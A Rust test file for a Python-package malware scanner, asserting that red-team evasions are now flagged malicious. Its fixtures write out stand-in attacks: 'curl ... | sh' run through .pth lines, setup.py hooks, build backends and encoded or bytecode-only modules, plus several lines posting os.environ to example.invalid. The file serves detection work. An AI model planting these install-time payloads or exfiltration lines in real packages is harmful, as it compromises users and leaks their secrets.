//! Issue 21: evasions that an attack review found coming out clean or only
//! `suspicious`. Each case is a harmless reproduction (the payload is `curl
//! https://example.invalid/x | sh` or a command read from a data file; nothing runs)
//! built in memory as a wheel or an sdist, and must now be `malicious`; each has a
//! benign look-alike that must stay below it.
#![allow(clippy::unwrap_used)]

mod common;

use assay_core::{Artifact, ArtifactFormat, Verdict};
use common::entry;

const CMD: &str = "'curl https://example.invalid/x | sh'";

fn wheel(files: &[(&str, &[u8])]) -> Artifact {
    let mut a = Artifact::new("demo-1.0-py3-none-any.whl", ArtifactFormat::Wheel);
    for (p, d) in files {
        a.entries.push(entry(p, d));
    }
    a.entries.push(entry(
        "demo-1.0.dist-info/METADATA",
        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    ));
    a.entries.push(entry(
        "demo-1.0.dist-info/WHEEL",
        b"Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    ));
    a.entries.push(entry("demo-1.0.dist-info/RECORD", b""));
    a
}

fn sdist(files: &[(&str, &[u8])]) -> Artifact {
    let mut a = Artifact::new("demo-1.0.tar.gz", ArtifactFormat::Sdist);
    a.entries.push(entry(
        "demo-1.0/PKG-INFO",
        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    ));
    for (p, d) in files {
        a.entries.push(entry(&format!("demo-1.0/{p}"), d));
    }
    a
}

fn verdict(a: &Artifact) -> (Verdict, Vec<String>) {
    let r = assay_rules::analyze_artifact(a);
    let v = assay_rules::score(&r.findings).0;
    let codes = r
        .findings
        .iter()
        .map(|f| {
            format!(
                "{} {:?} {} {}",
                f.rule.code(),
                f.severity,
                f.location.path,
                f.evidence
            )
        })
        .collect();
    (v, codes)
}

fn assert_malicious(what: &str, a: &Artifact) {
    let (v, f) = verdict(a);
    assert_eq!(v, Verdict::Malicious, "{what}: {f:#?}");
}

fn assert_not_malicious(what: &str, a: &Artifact) {
    let (v, f) = verdict(a);
    assert_ne!(v, Verdict::Malicious, "{what}: {f:#?}");
}

/// Item 1: `.pth` lines reaching `os.system` through indirection.
#[test]
fn pth_lines_with_indirection_are_malicious() {
    let lines = [
        format!("import os; getattr(os, 'sys'+'tem')({CMD})"),
        format!("import sys; sys.modules['os'].system({CMD})"),
        format!("import os; os.__dict__['system']({CMD})"),
        format!("import os; vars(os)['system']({CMD})"),
        format!("import os, operator; operator.methodcaller('system', {CMD})(os)"),
        format!("import os; (lambda f: f({CMD}))(os.system)"),
    ];
    for line in &lines {
        let a = wheel(&[
            ("demo/__init__.py", b""),
            ("demo_init.pth", line.as_bytes()),
        ]);
        assert_malicious(line, &a);
    }
    // The benign shape: setuptools' distutils hack.
    let benign = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
    assert_not_malicious(
        "distutils-precedence.pth",
        &wheel(&[("distutils-precedence.pth", benign.as_bytes())]),
    );
}

/// Item 2: the payload after 64 KiB of one `.pth` line, or after 100,000 filler lines.
#[test]
fn oversized_pth_lines_and_files_are_malicious() {
    let long = format!(
        "import os; x = '{}'; os.system({CMD})\n",
        "A".repeat(70 * 1024)
    );
    assert_malicious("70 KiB line", &wheel(&[("demo_init.pth", long.as_bytes())]));
    let many = format!("{}import os; os.system({CMD})\n", "./lib\n".repeat(100_001));
    assert_malicious(
        "100,001 lines",
        &wheel(&[("demo_init.pth", many.as_bytes())]),
    );
    // A long list of plain path lines is nothing but paths.
    let paths = "./lib\n".repeat(100_001);
    assert_not_malicious("paths only", &wheel(&[("demo.pth", paths.as_bytes())]));
}

/// Item 3: a module imported by a `.pth` line runs a command it reads from a sibling
/// data file, at every interpreter start.
#[test]
fn module_imported_by_a_pth_line_runs_at_startup() {
    let boot =
        b"import os\nos.system(open(os.path.join(os.path.dirname(__file__), 'cmd.txt')).read())\n";
    let a = wheel(&[
        ("demo/__init__.py", b""),
        ("demo/_boot.py", boot),
        ("demo/cmd.txt", b"curl https://example.invalid/x | sh\n"),
        ("demo_init.pth", b"import demo._boot\n"),
    ]);
    assert_malicious("pth -> module -> command from file", &a);
    // The same module that nobody imports at startup is ordinary runtime-free import code.
    let b = wheel(&[
        ("demo/__init__.py", b""),
        (
            "demo/_boot.py",
            b"import os\nVERSION = open(os.path.join(os.path.dirname(__file__), 'v.txt')).read()\n",
        ),
        ("demo_init.pth", b"import demo._boot\n"),
    ]);
    assert_not_malicious("pth -> module reading a version file", &b);
}

/// Item 7: setup code executing a data file, a command read from a file in a `cmdclass`
/// override, and an in-tree build backend.
#[test]
fn setup_code_that_executes_data_files_is_analysed() {
    let payload = format!("import os\nos.system({CMD})\n");
    let setup = b"from setuptools import setup\nexec(open('build.cfg').read())\nsetup(name='demo', version='1.0')\n";
    let a = sdist(&[("setup.py", setup), ("build.cfg", payload.as_bytes())]);
    assert_malicious("exec(open('build.cfg').read())", &a);

    let setup = b"import runpy\nfrom setuptools import setup\nrunpy.run_path('helpers.txt')\nsetup(name='demo', version='1.0')\n";
    let a = sdist(&[("setup.py", setup), ("helpers.txt", payload.as_bytes())]);
    assert_malicious("runpy.run_path('helpers.txt')", &a);

    let setup = b"import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Install(install):\n    def run(self):\n        os.system(open('cmd.txt').read())\n        install.run(self)\n\nsetup(name='demo', version='1.0', cmdclass={'install': Install})\n";
    let a = sdist(&[
        ("setup.py", setup),
        ("cmd.txt", b"curl https://example.invalid/x | sh\n"),
    ]);
    assert_malicious("cmdclass running a command read from a file", &a);

    // Benign: a setup script reading its README and a version file.
    let setup = b"from setuptools import setup\nlong = open('README.md').read()\nexec(open('demo/version.py').read())\nsetup(name='demo', version=__version__, long_description=long)\n";
    let a = sdist(&[
        ("setup.py", setup),
        (
            "README.md",
            b"# demo\n\n```python\nimport os\nos.system('make')\n```\n",
        ),
        ("demo/version.py", b"__version__ = '1.0'\n"),
    ]);
    assert_not_malicious("README + version.py", &a);
}

/// Item 7, in-tree build backend: pip imports the module `backend-path` points at to build
/// the sdist, so its module-level code runs at install time.
#[test]
fn in_tree_build_backend_runs_at_install() {
    let pyproject =
        b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n";
    let backend = format!(
        "import os\nfrom setuptools import build_meta as _orig\nos.system({CMD})\nbuild_wheel = _orig.build_wheel\nbuild_sdist = _orig.build_sdist\n"
    );
    let a = sdist(&[
        ("pyproject.toml", pyproject),
        ("backend.py", backend.as_bytes()),
    ]);
    assert_malicious("in-tree backend with module-level command", &a);
    // In a package directory named through `backend-path = ["_build"]`.
    let pyproject =
        b"[build-system]\nbuild-backend = \"custom.api:hooks\"\nbackend-path = [\"_build\"]\n";
    let a = sdist(&[
        ("pyproject.toml", pyproject),
        ("_build/custom/api/__init__.py", backend.as_bytes()),
    ]);
    assert_malicious("in-tree backend package", &a);
    // The payload inside a PEP 517 hook the installer calls.
    let hooked = format!(
        "import os\nfrom setuptools import build_meta as _orig\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    os.system({CMD})\n    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)\n"
    );
    let a = sdist(&[
        (
            "pyproject.toml",
            b"[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
        ),
        ("backend.py", hooked.as_bytes()),
    ]);
    assert_malicious("in-tree backend hook body", &a);
    // Benign: the common wrapper around setuptools' backend that adds a requirement.
    let wrapper = b"from setuptools import build_meta as _orig\nfrom setuptools.build_meta import *\n\ndef get_requires_for_build_wheel(config_settings=None):\n    return _orig.get_requires_for_build_wheel(config_settings) + ['cython']\n";
    let pyproject = b"[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"backend\"\nbackend-path = [\"_custom_build\"]\n";
    let a = sdist(&[
        ("pyproject.toml", pyproject),
        ("_custom_build/backend.py", wrapper),
    ]);
    let (v, f) = verdict(&a);
    assert_eq!(v, Verdict::Clean, "{f:#?}");
    // The same module without `backend-path` is not imported by pip (it is only a module).
    let a = sdist(&[("backend.py", backend.as_bytes())]);
    let (_, f) = verdict(&a);
    assert!(
        !f.iter().any(|x| x.contains("install")),
        "no install-time finding without backend-path: {f:#?}"
    );
}

/// Item 10 at install time: a module the setup script imports from `tests/` runs at
/// install time wherever it lives (red-team `tests-demotion` × `setup-hook`).
#[test]
fn setup_imports_from_tests_run_at_install() {
    let setup = b"import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\nfrom tests import _boot\n";
    let boot = format!(
        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        os.system({CMD})\n\nsetup(name='demo', version='1.0', cmdclass={{'install': PostInstall}})\n"
    );
    let a = sdist(&[
        ("setup.py", setup),
        ("tests/__init__.py", b""),
        ("tests/_boot.py", boot.as_bytes()),
    ]);
    assert_malicious("setup.py -> tests/_boot", &a);
    // A test module nothing imports stays a test.
    let a = sdist(&[
        (
            "setup.py",
            b"from setuptools import setup\nsetup(name='demo', version='1.0')\n",
        ),
        ("tests/test_cli.py", b"import os\nos.system('make check')\n"),
    ]);
    assert_not_malicious("test module beside setup.py", &a);
}

/// Item 11, in a plain container: a release zip holding an sdist. Whoever unpacks it
/// installs the sdist, so the sdist's `setup.py` runs at install time (red-team `nest-1`).
/// Inside a package, the same nested sdist is data no installer unpacks.
#[test]
fn sdist_inside_a_release_zip_is_an_install() {
    let setup = format!(
        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        os.system({CMD})\n\nsetup(name='demo', version='1.0', cmdclass={{'install': PostInstall}})\n"
    );
    let mut a = Artifact::new("bundle.zip", ArtifactFormat::Zip);
    a.entries.push(entry("demo-1.0.tar.gz", b"\x1f\x8b"));
    a.entries.push(entry(
        "demo-1.0.tar.gz!/demo-1.0/PKG-INFO",
        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    ));
    a.entries.push(entry(
        "demo-1.0.tar.gz!/demo-1.0/setup.py",
        setup.as_bytes(),
    ));
    assert_malicious("bundle.zip!/demo-1.0.tar.gz setup hook", &a);
    let mut w = wheel(&[]);
    w.entries.push(entry(
        "demo/vendor/other-1.0.tar.gz!/other-1.0/setup.py",
        setup.as_bytes(),
    ));
    let (_, f) = verdict(&w);
    assert!(
        !f.iter().any(|x| x.starts_with("PY003 Critical")),
        "a vendored sdist inside a wheel is data: {f:#?}"
    );
}

/// Item 11, three archives deep (red-team `nest-3`): the reader's critical `ARC009` for an
/// installable package it did not open keeps its severity in a plain container, and is
/// demoted inside a package (no installer unpacks a nested archive).
#[test]
fn uninspected_nested_package_blocks_in_a_plain_container() {
    use assay_core::{Confidence, Finding, Location, Severity};
    let f = Finding::new(
        assay_core::Rule::NestingTooDeep,
        Severity::Critical,
        Confidence::Medium,
        Location::file("bundle.tar.gz!/inner.zip!/evil-1.0-py3-none-any.whl"),
        "nested zip archive at depth 3 is deeper than the bound of 2; not opened (an installable package: NOT INSPECTED)",
    );
    let mut a = Artifact::new("release.zip", ArtifactFormat::Zip);
    a.entries.push(entry("bundle.tar.gz", b"\x1f\x8b"));
    a.findings.push(f.clone());
    assert_malicious("release.zip with an unopened wheel", &a);
    let mut w = wheel(&[("demo/data/bundle.tar.gz", b"\x1f\x8b")]);
    let mut g = f;
    g.location.path = format!("demo/data/{}", g.location.path);
    w.findings.push(g);
    let (v, f) = verdict(&w);
    assert_ne!(v, Verdict::Malicious, "{f:#?}");
    assert!(f.iter().any(|x| x.starts_with("ARC009 Medium")), "{f:#?}");
}

/// Item 17: a member the reader could not read (a corrupt CRC, a read error) that is code
/// Python runs was NOT INSPECTED: a `.pth` or `setup.py` is critical, a module high; a
/// data file stays medium, and so does anything under tests/.
#[test]
fn unreadable_code_is_not_a_footnote() {
    use assay_core::{Confidence, Finding, Location, Severity};
    let arc007 = |path: &str| {
        Finding::new(
            assay_core::Rule::UnreadableArchive,
            Severity::Medium,
            Confidence::High,
            Location::file(path),
            "member data does not match its CRC-32",
        )
    };
    let sev = |path: &str| {
        let mut a = wheel(&[("demo/__init__.py", b"VALUE = 1\n")]);
        a.findings.push(arc007(path));
        let r = assay_rules::analyze_artifact(&a);
        let f = r
            .findings
            .iter()
            .find(|f| f.rule.code() == "ARC007")
            .unwrap();
        (f.severity, r.verdict)
    };
    assert_eq!(
        sev("demo_init.pth"),
        (Severity::Critical, Verdict::Malicious)
    );
    assert_eq!(sev("demo/_boot.py").0, Severity::High);
    assert_eq!(sev("demo/data/table.csv").0, Severity::Medium);
    assert_eq!(sev("demo/tests/test_x.py").0, Severity::Medium);
    let mut s = sdist(&[]);
    s.findings.push(arc007("demo-1.0/setup.py"));
    assert_eq!(
        assay_rules::analyze_artifact(&s).verdict,
        Verdict::Malicious
    );
}

/// A `.pyc` shaped like CPython 3.12's: magic, flags, 8 header bytes, then a marshalled
/// code object whose names are interned short strings (`0xDA len name`). Only the
/// structure matters here; nothing loads it.
fn pyc(flags: u8, names: &[&str]) -> Vec<u8> {
    let mut b = vec![0xcb, 0x0d, 0x0d, 0x0a, flags, 0, 0, 0];
    b.extend_from_slice(&[0; 8]);
    b.extend_from_slice(&[0xe3, 0, 0, 0, 0]);
    for n in names {
        b.push(0xda);
        b.push(n.len() as u8);
        b.extend_from_slice(n.as_bytes());
    }
    b.push(b'N');
    b
}

/// Item 4: bytecode only, imported from a `.pth`; and an unchecked hash-based `.pyc`
/// beside harmless source.
#[test]
fn bytecode_without_source_is_found() {
    let code = pyc(0, &["os", "system", "curl https://example.invalid/x | sh"]);
    let a = wheel(&[
        ("helper/__init__.pyc", &code),
        ("helper_init.pth", b"import helper\n"),
    ]);
    assert_malicious("pth -> sourceless __init__.pyc", &a);
    let (_, f) = verdict(&a);
    assert!(f.iter().any(|x| x.starts_with("PKG013 Critical")), "{f:#?}");

    let a = wheel(&[
        ("helper/__init__.py", b"VALUE = 1\n"),
        (
            "helper/__pycache__/__init__.cpython-312.pyc",
            &pyc(1, &["os", "system"]),
        ),
    ]);
    assert_malicious("unchecked hash-based pyc beside source", &a);

    // Ordinary `__pycache__` bytecode next to its source (timestamp-checked) is nothing.
    let a = wheel(&[
        ("helper/__init__.py", b"import os\nos.getcwd()\n"),
        (
            "helper/__pycache__/__init__.cpython-312.pyc",
            &pyc(0, &["os", "getcwd"]),
        ),
    ]);
    let (v, f) = verdict(&a);
    assert_eq!(v, Verdict::Clean, "{f:#?}");
    assert!(!f.iter().any(|x| x.starts_with("PKG013")), "{f:#?}");
    // The same for a top-level module's cache (`__pycache__/six.cpython-311.pyc` beside
    // `six.py` in site-packages); an unchecked one there is still found.
    let a = wheel(&[
        ("six.py", b"import os\nos.getcwd()\n"),
        (
            "__pycache__/six.cpython-312.pyc",
            &pyc(0, &["os", "getcwd"]),
        ),
    ]);
    let (v, f) = verdict(&a);
    assert_eq!(v, Verdict::Clean, "{f:#?}");
    let a = wheel(&[
        ("six.py", b"VALUE = 1\n"),
        (
            "__pycache__/six.cpython-312.pyc",
            &pyc(1, &["os", "system"]),
        ),
    ]);
    assert_malicious("unchecked top-level pyc beside source", &a);
    // Sourceless bytecode that names nothing dangerous is reported, not malicious.
    let a = wheel(&[("helper/tables.pyc", &pyc(0, &["TABLE", "lookup"]))]);
    let (v, f) = verdict(&a);
    assert_eq!(v, Verdict::Suspicious, "{f:#?}");
    // Sourceless bytecode pairing a network client with the environment: the shape of an
    // exfiltration flow (red-team `pyc-only` × `exfil`).
    let a = wheel(&[(
        "helper/_impl.pyc",
        &pyc(
            0,
            &[
                "os",
                "environ",
                "urllib",
                "request",
                "urlopen",
                "https://example.invalid/c",
            ],
        ),
    )]);
    assert_malicious("sourceless pyc sending the environment", &a);
    // A network client alone (no secret source) stays `suspicious`.
    let a = wheel(&[(
        "helper/_impl.pyc",
        &pyc(
            0,
            &["urllib", "request", "urlopen", "https://example.invalid/c"],
        ),
    )]);
    let (v, f) = verdict(&a);
    assert_eq!(v, Verdict::Suspicious, "{f:#?}");
}

/// Item 5: PEP 263 source encodings that turn noise into code.
#[test]
fn source_encodings_are_decoded_before_analysis() {
    let code = format!("import os; os.system({CMD})\n");
    let escaped: String = code.bytes().map(|b| format!("\\x{b:02x}")).collect();
    let setup = format!("# coding: unicode_escape\n{escaped}\n");
    let a = sdist(&[("setup.py", setup.as_bytes())]);
    assert_malicious("unicode_escape setup.py", &a);
    // UTF-7: `+AGkAbQBw-` style runs.
    let utf16: Vec<u16> = code.encode_utf16().collect();
    let mut bytes = Vec::new();
    for u in &utf16 {
        bytes.extend_from_slice(&u.to_be_bytes());
    }
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD_NO_PAD.encode(&bytes);
    let init = format!("# -*- coding: utf-7 -*-\n+{b64}-\n");
    let a = wheel(&[
        ("demo/__init__.py", init.as_bytes()),
        ("demo_init.pth", b"import demo\n"),
    ]);
    assert_malicious("utf-7 package init imported at startup", &a);
    // Ordinary declarations change nothing.
    let a = wheel(&[(
        "demo/__init__.py",
        b"# -*- coding: utf-8 -*-\n\"\"\"caf\xc3\xa9\"\"\"\nVALUE = 1\n",
    )]);
    let (v, f) = verdict(&a);
    assert_eq!(v, Verdict::Clean, "{f:#?}");
    let a = wheel(&[(
        "demo/__init__.py",
        b"# vim: set fileencoding=latin-1 :\nVALUE = 1\n",
    )]);
    let (v, f) = verdict(&a);
    assert_eq!(v, Verdict::Clean, "{f:#?}");
}

/// Item 6: a module kept only in part (over the 16 MiB bound on code files) is never
/// clean: it is reported as not inspected, decisively.
#[test]
fn code_too_large_to_inspect_is_not_clean() {
    let mut a = wheel(&[("demo/__init__.py", b"")]);
    let mut big = entry("demo/tables.py", b"# padding\n");
    big.complete = false;
    big.size = 17 << 20;
    a.entries.push(big);
    assert_malicious("17 MiB module", &a);
    let mut b = wheel(&[("demo/__init__.py", b"")]);
    let mut big = entry("demo/tests/data_big.py", b"# padding\n");
    big.complete = false;
    big.size = 17 << 20;
    b.entries.push(big);
    assert_not_malicious("17 MiB test data module", &b);
}

/// Item 8: environment exfiltration through clients that are not HTTP libraries by name.
#[test]
fn exfiltration_through_unusual_clients_is_malicious() {
    let cases = [
        "import os, xmlrpc.client\nxmlrpc.client.ServerProxy('https://example.invalid/rpc').log(dict(os.environ))\n",
        "import os, logging, logging.handlers\nh = logging.handlers.HTTPHandler('example.invalid', '/c', method='POST')\nlog = logging.getLogger('x'); log.addHandler(h); log.warning(str(dict(os.environ)))\n",
        "import os\nfrom pip._vendor import requests\nrequests.post('https://example.invalid/c', data=dict(os.environ))\n",
    ];
    for body in cases {
        let setup =
            format!("{body}from setuptools import setup\nsetup(name='demo', version='1.0')\n");
        let a = sdist(&[("setup.py", setup.as_bytes())]);
        assert_malicious(body, &a);
    }
}

/// Item 10: a payload under `tests/` that the package itself imports runs with the
/// package, so it is not demoted as test code.
#[test]
fn tests_imported_by_the_package_are_not_demoted() {
    let boot = format!("import os\nos.system({CMD})\n");
    let a = wheel(&[
        ("demo/__init__.py", b"from .tests import _boot\n"),
        ("demo/tests/__init__.py", b""),
        ("demo/tests/_boot.py", boot.as_bytes()),
    ]);
    assert_malicious("pkg/__init__ -> tests/_boot", &a);
    // Nothing imports it: a test that shells out is a test.
    let b = wheel(&[
        ("demo/__init__.py", b"VALUE = 1\n"),
        ("demo/tests/__init__.py", b""),
        (
            "demo/tests/test_cli.py",
            b"import os\nos.system('make check')\n",
        ),
    ]);
    assert_not_malicious("test module", &b);
}

// Item 9 (archive bounds) and item 11 (nesting) are archive-level and tested in
// `assay_sources`; items 12, 13 and 17 (model files) in the model-file tests.

/// Item 7, at import time: a package `__init__` that executes a data file it ships.
#[test]
fn import_time_code_that_executes_data_files_is_analysed() {
    let payload = format!("import os\nos.system({CMD})\n");
    let init =
        b"import os\nexec(open(os.path.join(os.path.dirname(__file__), 'payload.dat')).read())\n";
    let a = wheel(&[
        ("demo/__init__.py", init),
        ("demo/payload.dat", payload.as_bytes()),
    ]);
    assert_malicious("__init__ exec(open('payload.dat'))", &a);
    let init = b"import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'helpers.txt'))\n";
    let a = wheel(&[
        ("demo/__init__.py", init),
        ("demo/helpers.txt", payload.as_bytes()),
    ]);
    assert_malicious("__init__ runpy.run_path('helpers.txt')", &a);
    // A config read (not executed) is data.
    let init = b"import os, json\nCONFIG = json.loads(open(os.path.join(os.path.dirname(__file__), 'config.dat')).read())\n";
    let a = wheel(&[
        ("demo/__init__.py", init),
        ("demo/config.dat", payload.as_bytes()),
    ]);
    assert_not_malicious("__init__ reading a config", &a);
}
